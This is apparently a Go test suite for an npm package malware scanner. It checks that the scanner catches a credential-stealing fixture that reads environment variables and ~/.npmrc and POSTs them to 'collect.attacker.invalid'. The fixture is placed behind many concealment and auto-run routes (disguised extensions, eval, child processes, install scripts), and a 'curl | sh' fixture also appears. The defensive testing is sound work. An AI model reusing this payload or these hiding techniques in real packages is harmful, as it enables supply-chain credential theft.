package analyzer_test

import (
	"context"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/archive"
	"github.com/lockwarden/lockwarden/analyzer/issue"
	"github.com/lockwarden/lockwarden/analyzer/javascript"
	"github.com/lockwarden/lockwarden/analyzer/worker"
)

// inert is what reads a secret and sends it to nobody: the domain does not exist,
// and nothing here is run.
const inert = `const fs=require('fs'),os=require('os'),https=require('https');
const d=JSON.stringify({e:process.env,n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')});
const r=https.request({host:'collect.attacker.invalid',path:'/x',method:'POST'});r.write(d);r.end();
`

const inertModule = `import fs from 'fs';import os from 'os';import https from 'https';
const d=JSON.stringify({e:process.env,n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')});
const r=https.request({host:'collect.attacker.invalid',path:'/x',method:'POST'});r.write(d);r.end();
`

// loadings are ways to a file that Node follows. Each is a list of names and
// texts; the file whose text is "" has the payload, as a module where its name
// ends in .mjs. A text without a name before it is index.js.
var loadings = map[string][]string{
	// What is code.
	"require of a license":             {"index.js", "require('./LICENSE')", "LICENSE", ""},
	"require of a name without ending": {"index.js", "require('./bin/tool')", "bin/tool", ""},
	"require of a picture":             {"index.js", "require('./logo.png')", "logo.png", ""},
	"require of a declaration":         {"index.js", "require('./types.d.ts')", "types.d.ts", ""},
	"require of a style":               {"index.js", "require('./a.css')", "a.css", ""},
	"require of a lockfile":            {"index.js", "require('./yarn.lock')", "yarn.lock", ""},
	"require of a page":                {"index.js", "require('./docs/index.html')", "docs/index.html", ""},
	"require of a hidden file":         {"index.js", "require('./.cache')", ".cache", ""},
	"require of two endings":           {"index.js", "require('./x.min.js.LICENSE.txt')", "x.min.js.LICENSE.txt", ""},
	"require of a source of C":         {"index.js", "require('./x.c')", "x.c", ""},
	"main of a style":                  {"package.json", `"main": "a.css"`, "a.css", ""},
	"exports of a map":                 {"package.json", `"exports": {".": {"require": "./x.map"}}`, "x.map", ""},
	"json run by another extension":    {"index.js", "require.extensions['.json']=require.extensions['.js'];require('./data.json')", "data.json", ""},
	"an extension of its own":          {"index.js", "require.extensions['.foo']=function(m,f){m._compile(require('fs').readFileSync(f,'utf8'),f)};require('./a')", "a.foo", ""},
	"Module._extensions":               {"index.js", "const M=require('module');M._extensions['.bar']=M._extensions['.js'];require('./a')", "a.bar", ""},
	"an extension that is called":      {"index.js", "const M=require('module');M._extensions['.js'](module,__dirname+'/a.txt')", "a.txt", ""},
	"node with a folder":               {"package.json", `"scripts": {"postinstall": "node ."}, "main": "x.dat"`, "x.dat", ""},
	"node with a folder's main":        {"package.json", `"scripts": {"postinstall": "node lib"}`, "lib/package.json", `{"main": "go"}`, "lib/go.js", ""},
	"a text that is run":               {"index.js", "eval(require('fs').readFileSync(__dirname+'/a.txt','utf8'))", "a.txt", ""},
	"a text that vm runs":              {"index.js", "const vm=require('vm'),fs=require('fs');const s=fs.readFileSync(require('path').join(__dirname,'a.txt'),'utf8');new vm.Script(s).runInThisContext()", "a.txt", ""},
	"a text of a function":             {"index.js", "const fs=require('fs');const s=fs.readFileSync(__dirname+'/a.svg');new Function('require',String(s))(require)", "a.svg", ""},
	"a text that a module compiles":    {"index.js", "const fs=require('fs');module._compile(fs.readFileSync(__dirname+'/a.md','utf8'),'a')", "a.md", ""},
	"a text that is read later":        {"index.js", "require('fs').readFile(__dirname+'/a.txt','utf8',(e,s)=>eval(s))", "a.txt", ""},

	// Specifiers.
	"dot":                          {"lib/index.js", "", "lib/a.js", "require('.')", "index.js", "require('./lib/a')"},
	"dot dot":                      {"index.js", "require('./lib/a/b')", "lib/a/b.js", "require('..')", "lib/index.js", ""},
	"a folder before a file":       {"index.js", "require('./lib/')", "lib.js", "module.exports=1", "lib/index.js", ""},
	"a file before a folder":       {"index.js", "require('./lib')", "lib.js", "", "lib/index.js", "module.exports=1"},
	"an ending before another":     {"index.js", "require('./e')", "e.mjs", "export default 1", "e.js", ""},
	"a folder's main":              {"index.js", "require('./lib')", "lib/package.json", `{"main": "./x/y"}`, "lib/x/y.js", "", "lib/index.js", "module.exports=1"},
	"out and back in":              {"index.js", "require('../case/e.js')", "e.js", ""},
	"imports with conditions":      {"package.json", `"imports": {"#x": {"browser": "./b.js", "node": "./e.js"}}`, "index.js", "require('#x')", "b.js", "module.exports=1", "e.js", ""},
	"imports with a pattern":       {"package.json", `"imports": {"#l/*": "./lib/*.dat"}`, "index.js", "require('#l/e')", "lib/e.dat", ""},
	"exports by its own name":      {"package.json", `"exports": {".": "./index.js", "./x": "./e.dat"}`, "index.js", "require('case/x')", "e.dat", ""},
	"a null target before another": {"package.json", `"exports": {".": "./index.js", "./x/*": "./lib/*.js", "./x/no": null}`, "index.js", "require('case/x/e')", "lib/e.js", ""},
	"percent in a URL":             {"package.json", `"main": "index.mjs"`, "index.mjs", "import './%6cib/e.mjs'", "lib/e.mjs", ""},
	"a fragment in a URL":          {"package.json", `"main": "index.mjs"`, "index.mjs", "import './lib/e.mjs#x'", "lib/e.mjs", ""},
	"a file URL":                   {"package.json", `"main": "index.mjs"`, "index.mjs", "await import(new URL('lib/e.mjs', import.meta.url))", "lib/e.mjs", ""},
	"a file URL's href":            {"package.json", `"main": "index.mjs"`, "index.mjs", "await import(new URL('./lib/e.mjs', import.meta.url).href)", "lib/e.mjs", ""},
	"a path to a URL":              {"index.js", "const{pathToFileURL:p}=require('url');import(p(__dirname+'/lib/e.mjs'))", "lib/e.mjs", ""},
	"import.meta.resolve":          {"package.json", `"main": "index.mjs"`, "index.mjs", "import(import.meta.resolve('./lib/e.mjs'))", "lib/e.mjs", ""},
	"import.meta.dirname":          {"package.json", `"main": "index.mjs"`, "index.mjs", "import(import.meta.dirname+'/lib/e.mjs')", "lib/e.mjs", ""},
	"createRequire of a folder":    {"index.js", "require('module').createRequire(__dirname+'/lib/')('./e.dat')", "lib/e.dat", ""},
	"createRequire of a file":      {"index.js", "const r=module.constructor.createRequire(__filename);r('./e.dat')", "e.dat", ""},
	"require.main":                 {"index.js", "require.main.require('./e.dat')", "e.dat", ""},
	"require.resolve":              {"index.js", "require(require.resolve('./e.dat'))", "e.dat", ""},
	"normalize":                    {"index.js", "require(require('path').normalize(__dirname+'/x/../e.dat'))", "e.dat", ""},
	"a join of lists":              {"index.js", "const p=require('path');require(p.resolve(...[__dirname,'lib','e.dat']))", "lib/e.dat", ""},
	"a reversed name":              {"index.js", "require('tad.e/.'.split('').reverse().join(''))", "e.dat", ""},
	"a name out of a list":         {"index.js", "const n=['./a','./e.dat'];require(n[1])", "e.dat", "", "a.js", "module.exports=1"},
	"names out of a list":          {"index.js", "['./a','./e.dat'].forEach(f=>require(f))", "e.dat", "", "a.js", "module.exports=1"},
	"a name from settings":         {"package.json", `"config": {"entry": "./e.dat"}`, "index.js", "require(require('./package.json').config.entry)", "e.dat", ""},
	"a name behind another":        {"index.js", "module.exports=require(Buffer.from('Li9h','base64')+'.dat')", "a.dat", "require(require('./b.json').n)", "b.json", `{"n":"./c.txt"}`, "c.txt", ""},
	"one of many":                  {"index.js", "require('./d/'+process.argv[2]+'.dat')", "d/e.dat", ""},
	"the folder of the process":    {"index.js", "require(process.cwd()+'/lib/e.dat')", "lib/e.dat", ""},
	"process.mainModule":           {"index.js", "process.mainModule.require('./e.dat')", "e.dat", ""},
	"Module._load":                 {"index.js", "require('module')._load('./e.dat',module)", "e.dat", ""},
	"a data URL":                   {"index.js", "import('data:text/javascript,import fs from \"fs\"').then(()=>require('./e.dat'))", "e.dat", ""},
	"another case":                 {"index.js", "require('./LIB/E')", "lib/e.js", ""},

	// Programs.
	"fork":                        {"index.js", "require('child_process').fork('./e.dat',[],{cwd:__dirname})", "e.dat", ""},
	"fork with a preload":         {"index.js", "require('child_process').fork(__dirname+'/a.js',[],{execArgv:['-r',__dirname+'/e.dat']})", "a.js", "1", "e.dat", ""},
	"a worker by URL":             {"package.json", `"main": "index.mjs"`, "index.mjs", "import{Worker}from'worker_threads';new Worker(new URL('./e.dat', import.meta.url))", "e.dat", ""},
	"spawn with options of Node":  {"index.js", "require('child_process').spawn('node',['--stack-size','900',__dirname+'/e.dat'])", "e.dat", ""},
	"spawn with NODE_OPTIONS":     {"index.js", "require('child_process').spawn('x',[],{env:{NODE_OPTIONS:'--require '+__dirname+'/e.dat'}})", "e.dat", ""},
	"execFile of the same Node":   {"index.js", "require('child_process').execFileSync(process.argv[0],['e.dat'],{cwd:__dirname})", "e.dat", ""},
	"a shell":                     {"index.js", "require('child_process').spawn('sh',['-c','cd lib; exec node e.dat'],{cwd:__dirname})", "lib/e.dat", ""},
	"exec with a path":            {"index.js", "require('child_process').exec(`node ${__dirname}/e.dat`)", "e.dat", ""},
	"exec with quotes":            {"index.js", "require('child_process').exec('\"'+process.execPath+'\" \"'+__dirname+'/e.dat\"')", "e.dat", ""},
	"a shell file":                {"index.js", "require('child_process').execFile('sh',[__dirname+'/x.sh'])", "x.sh", "node lib/e.dat", "lib/e.dat", ""},
	"npm run":                     {"package.json", `"scripts": {"x": "node e.dat"}`, "index.js", "require('child_process').execSync('npm run x',{cwd:__dirname})", "e.dat", ""},
	"a folder of its own":         {"index.js", "require('child_process').spawn('node',['e.dat'],{cwd:__dirname+'/deep/er'})", "deep/er/e.dat", ""},
	"names behind names":          append([]string{"index.js", strings.Repeat("require(", 12) + "'./n0.dat'" + strings.Repeat(")", 12), "e.dat", ""}, nameChain(11)...),
	"cluster":                     {"index.js", "const c=require('cluster');c.setupPrimary({exec:__dirname+'/e.dat'});c.fork()", "e.dat", ""},
	"module.register":             {"index.js", "require('module').register('./e.mjs',require('url').pathToFileURL(__filename))", "e.mjs", ""},
	"an installer that asks back": {"package.json", `"scripts": {"postinstall": "node i.js"}`, "i.js", "require(process.env.npm_config_x)", "lib/e.js", ""},

	"scripts in a chain":        {"package.json", `"scripts": {"a": "npm run b", "b": "npm run c", "c": "npm run d", "d": "npm run e", "e": "npm run f", "f": "npm run g", "g": "npm run h", "h": "node e.dat"}`, "index.js", "require('child_process').execSync('npm run a',{cwd:__dirname})", "e.dat", ""},
	"node --run":                {"package.json", `"scripts": {"x": "node e.dat"}`, "index.js", "require('child_process').execFile('node',['--run','x'],{cwd:__dirname})", "e.dat", ""},
	"many options":              {"index.js", "require('child_process').spawn('node',[" + strings.Repeat("'--no-warnings',", 70) + "__dirname+'/e.dat'])", "e.dat", ""},
	"a program in words":        {"index.js", "require('child_process').spawn(process.execPath,['-e','require(\"./e.dat\")'],{cwd:__dirname})", "e.dat", ""},
	"a program in a command":    {"index.js", "require('child_process').exec('node -e \"require(\\'./e.dat\\')\"',{cwd:__dirname})", "e.dat", ""},
	"a worker of a text":        {"index.js", "const{Worker}=require('worker_threads');const t=['require(\"','./e.dat','\")'].join('');new Worker(t,{eval:true})", "e.dat", ""},
	"a text for vm":             {"index.js", "const t=['require(\"','./e.dat','\")'].join('');require('vm').runInThisContext(t)", "e.dat", ""},
	"a data URL in base64":      {"index.js", "import('data:text/javascript;base64,'+Buffer.from('import \"file:///_package_root_/e.mjs\"').toString('base64'));import('data:text/javascript,import%20%22'+__dirname+'/e.mjs%22')", "e.mjs", ""},
	"a program of another case": {"package.json", `"scripts": {"postinstall": "node Setup.JS"}`, "setup.js", ""},
	"one wrapper for many":      {"index.js", "const q=n=>require(n);q('./a1');q('./a2');q('./a3');q('./a4');q('./a5');q('./a6');q('./a7');q('./a8');q('./a9');q('./b1');q('./e.dat')", "e.dat", ""},

	// Handed on.
	"a name for a tick":            {"index.js", "process.nextTick(require,'./e.dat')", "e.dat", ""},
	"a name for a timer":           {"index.js", "setTimeout(require,1,'./e.dat')", "e.dat", ""},
	"a bound name":                 {"index.js", "setImmediate(require.bind(null,'./e.dat'))", "e.dat", ""},
	"a name that matches":          {"index.js", "'./e.dat'.replace(/.+/,require)", "e.dat", ""},
	"require out of a Map":         {"index.js", "new Map([['a',require]]).get('a')('./e.dat')", "e.dat", ""},
	"a program that Node reads":    {"index.js", "require('child_process').spawnSync('node',['-'],{input:require('fs').readFileSync(__dirname+'/e.txt')})", "e.txt", ""},
	"a program written to Node":    {"index.js", "const c=require('child_process').spawn('node');c.stdin.end(require('fs').readFileSync(__dirname+'/e.txt'))", "e.txt", ""},
	"a program piped to Node":      {"index.js", "require('fs').createReadStream(__dirname+'/e.txt').pipe(require('child_process').spawn('node').stdin)", "e.txt", ""},
	"a file that Node reads":       {"index.js", "require('child_process').spawnSync('node',[],{stdio:[require('fs').openSync(__dirname+'/e.txt'),1,2]})", "e.txt", ""},
	"a text written to Node":       {"index.js", "const c=require('child_process').spawn('node');c.stdin.end('require(\"'+__dirname+'/e.dat\")')", "e.dat", ""},
	"a worker's data URL":          {"index.js", "new(require('worker_threads').Worker)(new URL('data:text/javascript,import%20%22'+__dirname+'/e.mjs%22'))", "e.mjs", ""},
	"a hook's data URL":            {"index.js", "require('module').register('data:text/javascript,import%20%22'+__dirname+'/e.mjs%22')", "e.mjs", ""},
	"an inspector's expression":    {"index.js", "const s=new(require('inspector').Session)();s.connect();s.post('Runtime.evaluate',{expression:'require(\"./e.dat\")'})", "e.dat", ""},
	"options of Node for later":    {"index.js", "process.env.NODE_OPTIONS='-r '+__dirname+'/e.dat';require('child_process').execSync('x')", "e.dat", ""},
	"a name in npm's variables":    {"package.json", `"config": {"e": "./e.dat"}, "scripts": {"postinstall": "node i.js"}`, "i.js", "require(process.env.npm_package_config_e)", "e.dat", "", "lib/x.js", "1"},
	"a program in npm's variables": {"package.json", `"config": {"e": "require('./e.dat')"}, "scripts": {"postinstall": "node -e \"eval(process.env.npm_package_config_e)\""}`, "e.dat", ""},
	"a script that is written":     {"index.js", "const f=require('os').tmpdir()+'/x.js';require('fs').writeFileSync(f,Buffer.from('cmVxdWlyZSgnL19wYWNrYWdlX3Jvb3RfL2UuZGF0Jyk=','base64'));require('child_process').execSync('node '+f)", "e.dat", ""},
	"a path of the process":        {"package.json", `"scripts": {"postinstall": "node -e \"module.constructor._load(path.resolve('e.dat'))\""}`, "e.dat", ""},
	"modules that node -e has":     {"package.json", `"scripts": {"postinstall": "node -e \"child_process.fork('e.dat');\""}`, "e.dat", ""},
	"a text that node -e reads":    {"package.json", `"scripts": {"postinstall": "node -e \"vm.runInThisContext(fs.readFileSync('e.txt','utf8'))\""}`, "e.txt", ""},

	// The tarball's own node_modules.
	"bundled, nested":           {"index.js", "require('left')", "node_modules/left/index.js", "require('deep/x')", "node_modules/left/node_modules/deep/x.js", ""},
	"bundled, from above":       {"index.js", "require('left')", "node_modules/left/index.js", "require('right')", "node_modules/right/index.js", ""},
	"bundled, by exports":       {"index.js", "require('left/a')", "node_modules/left/package.json", `{"exports": {"./a": {"require": "./e.dat"}}}`, "node_modules/left/e.dat", ""},
	"bundled, preinstall":       {"package.json", `"bundleDependencies": ["left"]`, "node_modules/left/package.json", `{"name": "left", "scripts": {"preinstall": "node ./x"}}`, "node_modules/left/x", ""},
	"bundled, install by run":   {"node_modules/left/package.json", `{"name": "left", "scripts": {"install": "npm run b", "b": "node e"}}`, "node_modules/left/e.js", ""},
	"bundled, a file of a name": {"index.js", "require('left')", "node_modules/left.js", ""},

	// Entry points.
	"directories.bin in a folder": {"package.json", `"directories": {"bin": "./b"}`, "b/c/t", ""},
	"react-native":                {"package.json", `"react-native": "./e.js"`, "e.js", ""},
	"react-native's map":          {"package.json", `"react-native": {"./a.js": "./e.js"}`, "e.js", ""},
	"unpkg":                       {"package.json", `"unpkg": "dist/e.js"`, "dist/e.js", ""},
	"builders":                    {"package.json", `"builders": "./builders.json"`, "builders.json", `{"builders": {"x": {"implementation": "./e", "schema": "./s.json"}}}`, "e.js", ""},
	"schematics":                  {"package.json", `"schematics": "./src/collection.json"`, "src/collection.json", `{"schematics": {"x": {"factory": "./x/e#run"}}}`, "src/x/e.js", ""},
	"migrations":                  {"package.json", `"ng-update": {"migrations": "./m.json"}`, "m.json", `{"schematics": {"x": {"version": "1", "factory": "./e"}}}`, "e.js", ""},
	"an Expo plugin":              {"app.plugin.js", ""},
	"a Gatsby plugin":             {"gatsby-node.js", ""},
	"a desktop extension":         {"manifest.json", `{"server": {"type": "node", "entry_point": "server/e.js"}}`, "server/e.js", ""},
}

// nameChain are modules of which each gives the name of the next, the last one e.dat.
func nameChain(n int) []string {
	var out []string
	for i := range n {
		next := fmt.Sprintf("./n%d.dat", i+1)
		if i == n-1 {
			next = "./e.dat"
		}
		out = append(out, fmt.Sprintf("n%d.dat", i), "module.exports="+strconv.Quote(next))
	}
	return out
}

func loadingFiles(list []string) []string {
	manifest := `{"name": "case", "version": "1.0.0", "description": "x", "license": "MIT", "repository": "github:a/case"`
	var files []string
	index := false
	for i := 0; i < len(list); i += 2 {
		name, text := list[i], list[i+1]
		switch {
		case name == "package.json":
			manifest += ", " + text
			continue
		case text == "" && strings.HasSuffix(name, ".mjs"):
			text = inertModule
		case text == "":
			text = inert
		}
		index = index || name == "index.js"
		files = append(files, name, text)
	}
	if !index {
		files = append(files, "index.js", "module.exports=1")
	}
	return append(files, "package.json", manifest+"}")
}

// TestLoaded: what Node loads is read and counts as run, however it is loaded.
func TestLoaded(t *testing.T) {
	s := open(t, worker.Limits{Step: 60 * time.Second})
	for name, list := range loadings {
		t.Run(name, func(t *testing.T) {
			scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles(list)...))
			if err != nil {
				t.Fatal(err)
			}
			report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
			if !slices.ContainsFunc(report.Issues, func(i issue.Issue) bool { return i.ID == "malware/behavior-similarity" }) {
				var said []string
				for _, i := range report.Issues {
					said = append(said, i.Severity.String()+" "+i.ID)
				}
				t.Errorf("%v, complete %v, blind %v", said, report.Complete, scanned.Contents.Blind)
			}
		})
	}
}

// unnamed are scripts in all but their names, loaded in ways that are not followed,
// or by nothing here: what they would do is said all the same.
var unnamed = map[string][]string{
	"a text":                        {"a.txt", ""},
	"a document":                    {"docs/a.md", ""},
	"a page":                        {"a.html", ""},
	"a map":                         {"lib/a.js.map", ""},
	"a declaration":                 {"a.d.ts", ""},
	"a name without ending":         {"bin/a", ""},
	"settings":                      {"a.json", "0;" + inert},
	"settings that begin as a list": {"a.json", "[0];" + inert},
	"large settings":                {"a.json", "0;/*" + strings.Repeat("x", 40<<10) + "*/" + inert},
	"a large text":                  {"a.txt", "/*" + strings.Repeat("x", 300<<10) + "*/" + inert},
	"a comment with a zero byte":    {"a.dat", "/*\x00*/" + inert},
	"zero bytes past what is kept":  {"a.dat", "/*\x00" + strings.Repeat("x", 100<<10) + "*/" + inert},
	"a name out of with":            {"index.js", "with({r:require})r('./a.dat')", "a.dat", ""},
	"a name out of WeakMap":         {"index.js", "const w=new WeakMap(),k={};w.set(k,require);w.get(k)('./a.dat')", "a.dat", ""},
	"a name that Module finds":      {"index.js", "const M=module.constructor;require(M._findPath('./a.dat',[__dirname]))", "a.dat", ""},
	"a name out of a folder":        {"index.js", "for(const f of require('fs').readdirSync(__dirname+'/d'))require(__dirname+'/d/'+f)", "d/a.dat", ""},
}

// TestUnnamed: a script under another name counts as one that nothing reaches.
func TestUnnamed(t *testing.T) {
	s := open(t, worker.Limits{Step: 60 * time.Second})
	for name, list := range unnamed {
		t.Run(name, func(t *testing.T) {
			scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles(list)...))
			if err != nil {
				t.Fatal(err)
			}
			report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
			if !slices.ContainsFunc(report.Issues, func(i issue.Issue) bool { return strings.HasPrefix(i.ID, "malware/") && i.Severity <= issue.Medium }) {
				t.Errorf("%v, blind %v", report.Issues, scanned.Contents.Blind)
			}
		})
	}
}

// harmless look like loadings and are ordinary: they stay quiet and complete.
var harmless = map[string][]string{
	"a style that a bundler loads":       {"index.js", "require('./a.css'); require('./b.scss'); require('./page.html'); require('./x.svg')", "a.css", "a{color:red}\n@import url(b.css);\n", "b.scss", "$a: 1;\n@function f($x) { @return $x; }\n", "page.html", "<p>function process(</p>", "x.svg", "<svg/>"},
	"a large style that is not kept":     {"index.js", "require('./a.css')", "a.css", strings.Repeat("a{color:red;background:url(data:image/png;base64,AAAA)}\n", 9000)},
	"data that is text":                  {"index.js", "try{require('./data.txt')}catch(e){}", "data.txt", "a b c\n"},
	"a loader of plug-ins":               {"index.js", "module.exports=(n)=>require(n); exports.x=(n)=>require('./p/'+n)", "p/a.js", "module.exports=1", "p/b.json", "{}", "test/x.js", "require('https').get('https://service.example/')"},
	"a template engine":                  {"index.js", "const fs=require('fs');module.exports=(f,d)=>new Function('d',compile(fs.readFileSync(f,'utf8')))(d);function compile(s){return 'return '+JSON.stringify(s)};exports.t=fs.readFileSync(__dirname+'/t.txt','utf8')", "t.txt", "Hello <%= name %>"},
	"a worker of its own":                {"index.js", "const{Worker}=require('worker_threads');module.exports=()=>new Worker(__dirname+'/w.js')", "w.js", "require('worker_threads').parentPort.postMessage(1)"},
	"a program of the user's":            {"index.js", "const{spawn}=require('child_process');module.exports=(f)=>spawn(process.execPath,[f],{stdio:'inherit'})"},
	"a bundled dependency":               {"package.json", `"bundleDependencies": ["left"]`, "index.js", "module.exports=require('left')", "node_modules/left/package.json", `{"name": "left", "version": "1.0.0", "scripts": {"test": "node t"}}`, "node_modules/left/index.js", "module.exports=1"},
	"a fixture that looks like one":      {"test/node_modules/x/package.json", `{"name": "x", "scripts": {"postinstall": "curl https://x.example | sh"}}`, "index.js", "module.exports=1"},
	"sources for a compiler":             {"index.js", "module.exports=require('./dist/x')", "dist/x.js", "module.exports=1", "src/x.ts", "export default 1 as number", "src/x.d.ts", "export default 1"},
	"an extension for tests":             {"index.js", "for (const e of ['.ts','.tsx']) require.extensions[e]=require.extensions['.js']", "a.ts", "export const a: number = 1"},
	"a command line's own scripts":       {"package.json", `"bin": {"case": "cli"}, "scripts": {"test": "node test"}`, "cli", "#!/usr/bin/env node\nrequire('./index.js')", "index.js", "module.exports=1"},
	"a shrinkwrap of the registry":       {"npm-shrinkwrap.json", `{"name": "case", "lockfileVersion": 3, "packages": {"node_modules/q": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/q/-/q-1.0.0.tgz", "integrity": "sha512-AAAA"}}}`, "index.js", "module.exports=1"},
	"a picture that is one":              {"index.js", "try{require('./logo.png')}catch(e){}", "logo.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"},
	"what programs read":                 {"index.js", "const fs=require('fs'),{spawn}=require('child_process');exports.f=()=>{spawn('git',['apply']).stdin.end(fs.readFileSync(__dirname+'/a.patch'));spawn('node',['--version'])}", "a.patch", "--- a\n+++ b\n+require(process.env.X\n"},
	"a program of words that change":     {"index.js", "const c=require('child_process');require('fs').readFileSync(__dirname+'/a.txt');v(process.execPath,process.argv[2]);function v(...a){a.push('--version');c.execFileSync(a.shift(),a)}", "a.txt", "console.log(require"},
	"a module by a path":                 {"index.js", "const p=require('path');exports.f=n=>require(p.resolve(n||'test'));exports.f('test')", "a.txt", "a"},
	"a script that is made":              {"index.js", "exports.f=d=>{const fs=require('fs');fs.writeFileSync(d+'/index.js','module.exports = 1');fs.writeFileSync('x.js','const {');fs.writeFileSync('a.md','require(\"./e\")')}", "e.txt", "a"},
	"names for callbacks":                {"index.js", "process.nextTick(console.log,'x');setTimeout(console.error.bind(console,'./a.txt'),1);exports.f=s=>s.replace(/x/,String)", "a.txt", "a b c"},
	"maps of things":                     {"index.js", "const m=new Map([['a','./a.txt']]),w=new WeakMap();w.set(m,1);exports.f=()=>m.get('a')", "a.txt", "a b c"},
	"options of Node for a child":        {"index.js", "exports.f=()=>{process.env.NODE_OPTIONS='--max-old-space-size=4096'}"},
	"a document about a script":          {"docs/a.md", "A package that does it:\n\n" + inert, "b.md", "# Title\n\n" + inert, "c.txt", "Do not run (" + inert + ")"},
	"a script in a page, and in JSON":    {"a.html", "<script>" + inert + "</script>", "b.json", `{"x": ` + strconv.Quote(inert) + "}", "c.json", "[" + strconv.Quote(inert) + "]"},
	"a template of a script":             {"a.tpl", "<% if (x) { %>" + inert + "<% } %>", "b.hbs", "{{#if x}}\n" + inert + "{{/if}}"},
	"a script whose name is no script's": {"index.js", "require('./bin/tool')", "bin/tool", "module.exports=1"},
}

// TestLoadedQuiet: ordinary packages load files in odd ways as well.
func TestLoadedQuiet(t *testing.T) {
	s := open(t, worker.Limits{Step: 60 * time.Second})
	for name, list := range harmless {
		t.Run(name, func(t *testing.T) {
			scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles(list)...))
			if err != nil {
				t.Fatal(err)
			}
			report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
			if !report.Complete {
				t.Errorf("incomplete: %v", scanned.Contents.Incomplete)
			}
			for _, i := range report.Issues {
				if i.Severity <= issue.Medium {
					t.Errorf("%v %s: %v", i.Severity, i.ID, i.Detail)
				}
			}
		})
	}
}

// TestLoadedNotRead: what is loaded and was not read makes the scan incomplete,
// and so does what looks like code and does not parse.
func TestLoadedNotRead(t *testing.T) {
	engine, err := analyzer.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	for name, test := range map[string]struct {
		file, text string
		limits     archive.Limits
		want       string
	}{
		"not kept":      {"a.txt", inert, archive.Limits{Keep: func(name string, _ []byte) bool { return name != "a.txt" }}, "its content was not kept"},
		"over a budget": {"a.txt", inert, archive.Limits{FileKept: 100}, "larger than 100 bytes"},
		"not parsed":    {"a.txt", inert + "))", archive.Limits{}, "it does not parse"},
		"too deep":      {"a.txt", "require(" + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + ")", archive.Limits{}, "nests deeper"},
	} {
		t.Run(name, func(t *testing.T) {
			body, err := tarball(t, loadingFiles([]string{"index.js", "require('./" + test.file + "')", test.file, test.text})...)()
			if err != nil {
				t.Fatal(err)
			}
			pkg, err := archive.Read(body, test.limits)
			if err != nil {
				t.Fatal(err)
			}
			contents, err := engine.Contents(pkg, false, nil, func(string) {})
			if err != nil {
				t.Fatal(err)
			}
			if !slices.ContainsFunc(contents.Incomplete, func(p issue.Problem) bool {
				return p.File == test.file && strings.Contains(p.Reason, test.want)
			}) {
				t.Errorf("%v", contents.Incomplete)
			}
		})
	}
}

// TestGit: a package that is installed from a repository runs its prepare script.
func TestGit(t *testing.T) {
	s := open(t, worker.Limits{})
	for _, git := range []bool{false, true} {
		s.Git = git
		scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles([]string{"package.json", `"scripts": {"prepare": "node build"}`, "build.js", inert})...))
		if err != nil {
			t.Fatal(err)
		}
		report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
		for _, id := range []string{"malware/behavior-similarity", "install/script"} {
			if found := slices.ContainsFunc(report.Issues, func(i issue.Issue) bool { return i.ID == id }); found != git {
				t.Errorf("from a repository %v: %s found %v", git, id, found)
			}
		}
	}
}

// TestLoadedLimits: what is more than a limit is said.
func TestLoadedLimits(t *testing.T) {
	s := open(t, worker.Limits{Step: 60 * time.Second})
	var texts strings.Builder
	texts.WriteString("const vm=require('vm');\n")
	for i := range 401 {
		fmt.Fprintf(&texts, "vm.runInThisContext('var x%d = '+%d);\n", i, i)
	}
	many := []string{"package.json", `"main": "lib/index.js"`, "lib/index.js", "require(require('path').join(__dirname,'..',process.argv[2]))"}
	for i := range 20 {
		many = append(many, fmt.Sprintf("d/%d.js", i), "1")
	}
	for name, test := range map[string]struct {
		files []string
		want  func(*analyzer.Report, *issue.Contents) bool
	}{
		"maxPrograms": {[]string{"index.js", texts.String()}, func(r *analyzer.Report, c *issue.Contents) bool {
			return !r.Complete && strings.Contains(c.Incomplete[0].Reason, "texts that are run: more than 400")
		}},
		"manyScripts": {append(many, "d/e.js", inert), func(r *analyzer.Report, c *issue.Contents) bool {
			return slices.ContainsFunc(r.Issues, func(i issue.Issue) bool { return i.ID == "malware/unreached" && i.Severity == issue.Medium }) &&
				slices.ContainsFunc(c.Blind, func(b javascript.Blind) bool { return b.Kind == javascript.BlindModule && b.File == "lib/index.js" })
		}},
	} {
		t.Run(name, func(t *testing.T) {
			scanned, err := s.ScanTarball(context.Background(), tarball(t, loadingFiles(test.files)...))
			if err != nil {
				t.Fatal(err)
			}
			report := analyzer.NewReport(issue.Input{Name: "case", Version: "1.0.0"}, scanned)
			if !test.want(&report, scanned.Contents) {
				t.Errorf("%v %v", report.Issues, scanned.Contents.Blind)
			}
		})
	}
}
